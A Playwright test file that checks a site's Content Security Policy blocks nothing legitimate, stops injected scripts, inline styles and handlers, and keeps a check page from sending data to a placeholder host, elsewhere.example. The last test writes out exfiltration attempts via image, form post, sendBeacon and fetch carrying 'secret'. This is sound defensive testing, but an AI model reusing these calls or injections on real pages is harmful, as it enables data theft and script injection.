import { expect, test, type Page } from '@playwright/test';
import { PAGES } from './page-types.ts';

// What the browser refused, and what went wrong in the page, from its first byte on.
async function watch(page: Page) {
  const problems: string[] = [];
  await page.exposeFunction('refused', (what: string) => problems.push(what));
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      (window as unknown as { refused: (what: string) => void }).refused(
        `${effectiveDirective} ${blockedURI} ${sample}`,
      );
    }),
  );
  page.on('pageerror', ({ message }) => problems.push(message));
  page.on('console', (message) => {
    // A page that is not found is one on purpose.
    const own = message.text().includes('404') && message.location().url === page.url();
    if (message.type() === 'error' && !own) problems.push(message.text());
  });
  return problems;
}

for (const [name, path] of Object.entries(PAGES))
  test(`the content security policy stops nothing that the page needs: ${name}`, async ({ page }) => {
    const problems = await watch(page);
    await page.goto(path);
    const field = page.locator('input[name=q]').first();
    await field.fill('file');
    await expect(page.locator('[role=option], .result').first()).toBeVisible();
    for (const summary of await page.locator('main summary:visible').all()) await summary.click();
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
    await page.waitForLoadState('networkidle');
    expect(problems).toEqual([]);
  });

test('the policy stops a script, a style and a handler that were put into a page', async ({ page }) => {
  const problems = await watch(page);
  await page.goto('/');
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<p style="color: red" onclick="window.ran = 1">Injected</p>');
    const script = document.createElement('script');
    script.textContent = 'window.ran = 2';
    document.body.append(script);
    document.querySelector('p:last-of-type')?.dispatchEvent(new MouseEvent('click', { bubbles: true }));
  });
  const directives = ['style-src-attr', 'script-src-elem', 'script-src-attr'];
  for (const directive of directives)
    await expect.poll(() => problems.some((problem) => problem.startsWith(directive)), directive).toBe(true);
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
});

test('the stack check can send nothing to another origin', async ({ page }) => {
  const problems = await watch(page);
  const left: string[] = [];
  await page.route('https://elsewhere.example/**', (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  await page.goto('/check/');
  const sent = await page.evaluate(async () => {
    const to = 'https://elsewhere.example/';
    new Image().src = `${to}image`;
    const form = Object.assign(document.createElement('form'), { action: `${to}form`, method: 'post' });
    document.body.append(form);
    form.submit();
    navigator.sendBeacon(`${to}beacon`, 'secret');
    return fetch(`${to}fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(
      () => true,
      () => false,
    );
  });
  expect(sent).toBe(false);
  for (const directive of ['img-src', 'form-action', 'connect-src'])
    await expect.poll(() => problems.some((problem) => problem.startsWith(directive)), directive).toBe(true);
  expect(left).toEqual([]);
});
